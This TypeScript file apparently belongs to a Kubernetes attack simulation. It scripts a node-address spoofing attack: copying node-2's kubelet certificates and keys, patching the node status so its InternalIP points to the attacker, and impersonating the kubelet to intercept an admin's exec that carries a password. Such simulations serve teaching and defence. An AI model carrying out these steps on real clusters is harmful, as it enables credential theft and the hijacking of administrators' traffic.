import { atOwnAddress } from '../../attacker/position';
import { addresses } from '../addresses';
import { clientOn } from './client-on';
import { playOf } from './play';
import { poseAsKubelet } from './pose-as-kubelet';

export const falseNodeAddress = playOf({
  steps: [
    'attacker: scp node-2:/var/lib/kubelet/pki/* .',
    'attacker: kubectl --kubeconfig kubelet.conf patch node node-2 --subresource=status --type=merge -p \'{"status":{"addresses":[{"type":"InternalIP","address":"10.0.0.66"}, …]}}\'',
    'admin: kubectl logs web-2 --tail=3',
    "admin: echo PASSWORD | kubectl exec -i web-2 -- sh -c 'cat > /run/password'",
  ],
  async play(stage) {
    const { signal } = stage;
    const cluster = await stage.cluster();
    const loot = {
      client: cluster.pki.kubeletClients['node-2'],
      serving: cluster.pki.kubeletServing['node-2'],
    };
    await stage.did('attacker', 'scp node-2:/var/lib/kubelet/pki/* .', 'the certificates and keys of node-2');

    await using thief = clientOn(cluster.attackerHost, cluster, { clientCertificate: loot.client });
    const body = {
      status: {
        addresses: [
          { type: 'InternalIP', address: addresses.attacker },
          { type: 'Hostname', address: 'node-2' },
        ],
      },
    };
    const contentType = 'application/merge-patch+json';
    const patch = `kubectl --kubeconfig kubelet.conf patch node node-2 --subresource=status --type=merge -p '{"status":{"addresses":[{"type":"InternalIP","address":"${addresses.attacker}"}, …]}}'`;
    const publish = () =>
      thief.request('PATCH', '/api/v1/nodes/node-2/status', { body, contentType, signal });
    const patched = await publish();
    if (!patched.ok) return stage.refused('attacker', patch, patched.words);
    await stage.did('attacker', patch, 'node/node-2 patched');

    const fake = await poseAsKubelet(stage, cluster, {
      address: addresses.attacker,
      position: atOwnAddress(`node-2’s address is ${addresses.attacker}`),
      present: loot.serving,
      // The kubelet of node-2 says where it really is with every report of its own.
      again: publish,
    });
    await fake.isAskedFor('web-2');
  },
});
